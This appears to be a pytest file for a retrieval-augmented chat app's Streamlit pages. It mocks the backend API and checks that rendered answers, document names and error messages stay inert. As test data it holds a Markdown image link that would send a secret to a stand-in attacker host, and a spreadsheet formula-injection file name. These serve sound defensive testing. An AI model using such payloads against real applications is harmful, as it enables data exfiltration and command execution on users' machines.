"""The pages in Streamlit's test runner, with an imitated API and Prometheus. Does not test a
browser.
"""

import json
from collections.abc import Callable

import httpx
import pytest
from streamlit.testing.v1 import AppTest

from ragapp.ui import api, prometheus
from ragkit.markup import plain
from ragkit_testing.pages import HOSTILE, markdown_of, pictures

LINE_ENDS = "before\u2028between\u2029and\x85after"
SOURCE = {"document": "cat.md", "document_id": "1", "chunk": 0, "text": "Minka <b>sleeps</b>", "score": 0.81}
DOCUMENT = {
    "id": "1",
    "name": "cat.md",
    "state": "failed",
    "reason": "the PDF is damaged",
    "chunks": 3,
    "size_bytes": 2048,
    "created_at": "2026-11-21T11:00:00Z",
}


def ask_page() -> None:
    from ragapp.ui import ask

    ask.page()


def documents_page() -> None:
    from ragapp.ui import documents

    documents.page()


def status_page() -> None:
    from ragapp.ui import status

    status.page()


Handler = Callable[[httpx.Request], httpx.Response]


def answering(request: httpx.Request) -> httpx.Response:
    path = request.url.path
    if path == "/api/query":
        events = [
            ("sources", {"sources": [SOURCE]}),
            ("token", {"text": "She is called "}),
            ("token", {"text": "Minka [1]. !"}),
            ("token", {"text": "[x](http://elsewhere/)"}),
            ("token", {"text": LINE_ENDS}),
            ("done", {"timings": {"embed_ms": 3.0}}),
        ]
        text = "".join(
            f"event: {name}\ndata: {json.dumps(data, ensure_ascii=False)}\n\n" for name, data in events
        )
        return httpx.Response(200, text=text)
    if path == "/api/ready":
        broken = {"name": "redis", "ok": False, "detail": "it does not answer"}
        return httpx.Response(
            503, json={"dependencies": [{"name": "database", "ok": True, "detail": ""}, broken]}
        )
    return httpx.Response(200, json={"total": 1, "documents": [DOCUMENT]})


def down(request: httpx.Request) -> httpx.Response:
    raise httpx.ConnectError("refused")


@pytest.fixture
def backend(monkeypatch: pytest.MonkeyPatch) -> Callable[[Handler, Handler], None]:
    def use(api_handler: Handler, prometheus_handler: Handler) -> None:
        monkeypatch.setattr(prometheus, "PROMETHEUS_URL", "http://prometheus")
        for module, handler in ((api, api_handler), (prometheus, prometheus_handler)):
            client = httpx.Client(base_url="http://x", transport=httpx.MockTransport(handler))
            monkeypatch.setattr(module, "_http", lambda client=client: client)

    return use


def run(page: Callable[[], None]) -> AppTest:
    app = AppTest.from_function(page, default_timeout=20).run()
    assert not app.exception
    return app


def test_an_answer_is_shown_with_its_sources(backend: Callable[[Handler, Handler], None]) -> None:
    backend(answering, down)
    app = run(ask_page)
    app.chat_input[0].set_value("Who is the cat?").run()
    assert not app.exception
    displayed = [element.value for element in app.markdown]
    shown = "She is called Minka [1]. !\\[x](http://elsewhere/)" + LINE_ENDS
    assert shown in displayed, "and no picture is fetched"
    assert any(plain("cat.md") in word and "0.81" in word for word in displayed)
    assert [element.value for element in app.text] == ["Minka <b>sleeps</b>"], "as text, not as markup"


def test_documents_are_listed_with_the_reason_of_a_failure(
    backend: Callable[[Handler, Handler], None],
) -> None:
    backend(answering, down)
    table = run(documents_page).dataframe[0].value
    assert list(table["State"]) == ["failed"]
    assert list(table["Note"]) == ["the PDF is damaged"]


def test_without_prometheus_the_status_page_says_so_and_shows_the_rest(
    backend: Callable[[Handler, Handler], None],
) -> None:
    backend(answering, down)
    app = run(status_page)
    assert "Prometheus does not answer" in app.info[0].value
    tiles = [element.value for element in app.markdown]
    assert any("**redis**" in tile and "down" in tile for tile in tiles)
    assert "it does not answer" in [element.value for element in app.caption]


@pytest.mark.parametrize("page", [documents_page, status_page])
def test_without_the_api_every_page_says_so(
    backend: Callable[[Handler, Handler], None], page: Callable[[], None]
) -> None:
    backend(down, down)
    assert "The API does not answer" in run(page).error[0].value


def hostile(request: httpx.Request) -> httpx.Response:
    """Answer with a name or a reason of a document that is Markdown for a picture."""
    path = request.url.path
    if path == "/api/query":
        events = [
            ("sources", {"sources": [SOURCE | {"document": HOSTILE, "text": HOSTILE}]}),
            ("token", {"text": f"!{HOSTILE} !"}),
            ("token", {"text": "![a](http://evil.example/?d=secret)"}),
            ("error", {"detail": HOSTILE, "status": 503}),
        ]
        return httpx.Response(200, text="".join(f"event: {n}\ndata: {json.dumps(d)}\n\n" for n, d in events))
    if path == "/api/ready":
        return httpx.Response(503, json={"dependencies": [{"name": HOSTILE, "ok": False, "detail": HOSTILE}]})
    if path == "/api/documents":
        named = DOCUMENT | {"name": "=1+2+cmd|calc!A0.md", "reason": "@reason"}
        return httpx.Response(200, json={"total": 1, "documents": [named]})
    return httpx.Response(400, json={"detail": HOSTILE})


def test_no_name_and_no_answer_makes_the_browser_fetch_a_picture(
    backend: Callable[[Handler, Handler], None],
) -> None:
    backend(hostile, hostile)
    app = run(ask_page)
    app.chat_input[0].set_value(f"What is {HOSTILE}?").run()
    shown = "\n".join(markdown_of(app))
    assert shown.count("evil") >= 5, "question, name, answer and reason are shown"
    assert pictures(app) == []
    assert plain(HOSTILE) in shown
    app.run()
    assert pictures(app) == [], "nor when the conversation is shown again"
    status = run(status_page)
    assert plain(HOSTILE) in "\n".join(markdown_of(status))
    assert pictures(status) == []


def test_the_reason_of_a_refused_upload_is_no_markdown(
    backend: Callable[[Handler, Handler], None],
) -> None:
    backend(lambda _: httpx.Response(415, json={"detail": f"{HOSTILE}: not supported"}), down)

    def page() -> None:
        from types import SimpleNamespace

        from ragapp.ui import documents

        file = SimpleNamespace(name="a.md", type="", file_id="1", getvalue=lambda: b"", close=lambda: None)
        documents._upload([file])

    app = run(page)
    assert app.error[0].value == plain(f"{HOSTILE}: not supported")
    assert pictures(app) == []


def test_the_name_of_an_accepted_upload_is_no_markdown(
    backend: Callable[[Handler, Handler], None],
) -> None:
    backend(lambda _: httpx.Response(202, json={"duplicate": False}), down)

    def page() -> None:
        from types import SimpleNamespace

        from ragapp.ui import documents
        from ragkit_testing.pages import HOSTILE

        file = SimpleNamespace(name=HOSTILE, type="", file_id="1", getvalue=lambda: b"", close=lambda: None)
        documents._upload([file])

    app = run(page)
    assert app.toast[0].value == plain(f"{HOSTILE} is queued for ingestion")
    assert pictures(app) == []


def test_the_table_exports_no_formula(backend: Callable[[Handler, Handler], None]) -> None:
    backend(hostile, down)
    table = run(documents_page).dataframe[0].value
    assert list(table["Name"]) == ["'=1+2+cmd|calc!A0.md"]
    assert list(table["Note"]) == ["'@reason"]
